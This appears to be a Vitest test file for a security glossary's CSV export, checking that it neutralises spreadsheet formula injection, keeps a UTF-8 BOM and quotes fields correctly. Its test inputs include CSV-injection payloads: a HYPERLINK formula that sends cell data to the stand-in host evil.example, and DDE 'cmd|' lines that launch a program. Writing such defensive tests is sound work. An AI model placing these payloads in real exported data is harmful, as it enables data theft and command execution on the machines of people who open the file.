import { describe, expect, test } from 'vitest';
import { toCsv } from '../../src/catalog/api.ts';
import type { ApiTerm } from '../../src/schemas/api.ts';
import { parseCsv } from '../helpers/pack-formats.ts';

const term = (over: Partial<ApiTerm>): ApiTerm => ({
  slug: 'sample',
  url: 'https://glossary.example.org/terms/sample/',
  number: 7,
  title: 'Sample',
  qualifier: 'Test Concept',
  category: { slug: 'defense-and-operations', name: 'Defense & Operations' },
  summary: 'A sample term.',
  aliases: [],
  attack: null,
  related: [],
  reviewed: '2026-11-01',
  ...over,
});

// Excel, LibreOffice and Google Sheets run a cell starting with one of these as a formula, quoted or not.
const RUNS_AS_FORMULA = /^[\s]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|^[\t\r\n\0]/;

describe('/glossary.csv: no cell a spreadsheet would run as a formula', () => {
  const hostile = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click me")',
    "+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    '\t=1+2',
    '\r=1+2',
    '-2+3+cmd|" /C calc"!A0',
    ' =1+2',
    '＝1+2',
  ];

  test.each(hostile)('neutralises %j in every column it can reach, as OWASP advises', (value) => {
    const csv = toCsv([
      term({
        title: value,
        qualifier: value,
        summary: value,
        aliases: [value, 'Other'],
        category: { slug: 'x', name: value },
      }),
    ]);
    const [, row] = parseCsv(csv);
    for (const cell of row!) expect(cell).not.toMatch(RUNS_AS_FORMULA);
    // The text itself is kept: a leading single quote is what spreadsheets read as "this is text", and do not show.
    expect(row!.slice(1, 5)).toEqual([`'${value}`, `'${value}`, `'${value}`, `'${value}`]);
    expect(row![5]).toBe(`'${value}; Other`);
  });

  test('leaves ordinary cells exactly as they were', () => {
    const csv = toCsv([term({ title: 'C++ "quoted"', aliases: ['A = B', 'user@host'] })]);
    expect(csv).toBe(
      '\uFEFFnumber,title,qualifier,category,summary,aliases,attack_id,url,reviewed\r\n' +
        '"7","C++ ""quoted""","Test Concept","Defense & Operations","A sample term.","A = B; user@host","","https://glossary.example.org/terms/sample/","2026-11-01"\r\n',
    );
  });

  test('Excel shows typographic characters right when the file is opened by double-click (it starts with a UTF-8 BOM)', () => {
    const title = 'Attacker’s “loader” … → C2';
    const bytes = Buffer.from(toCsv([term({ title })]), 'utf8');
    // Excel reads a CSV without a byte-order mark in the legacy code page (Windows-1252 in Western locales).
    const excel =
      bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf
        ? new TextDecoder('utf-8').decode(bytes.subarray(3))
        : new TextDecoder('windows-1252').decode(bytes);
    expect(parseCsv(excel)[1]![1]).toBe(title);
  });

  test('a comma, a quote or a line break inside a field stays inside it: every row parses back to the same values', () => {
    const awkward = term({
      title: 'Living off the land, "LOTL"',
      summary: 'Line one\nline two\r\nline three, with "quotes".',
      aliases: ['a,b', '"x"'],
    });
    const rows = parseCsv(toCsv([awkward, term({ slug: 'plain', number: 8 })]));
    expect(rows).toHaveLength(3);
    expect(rows.map((r) => r.length)).toEqual([9, 9, 9]);
    expect(rows[1]!.slice(1, 6)).toEqual([
      'Living off the land, "LOTL"',
      'Test Concept',
      'Defense & Operations',
      'Line one\nline two\r\nline three, with "quotes".',
      'a,b; "x"',
    ]);
    expect(rows[2]![0]).toBe('8');
  });
});
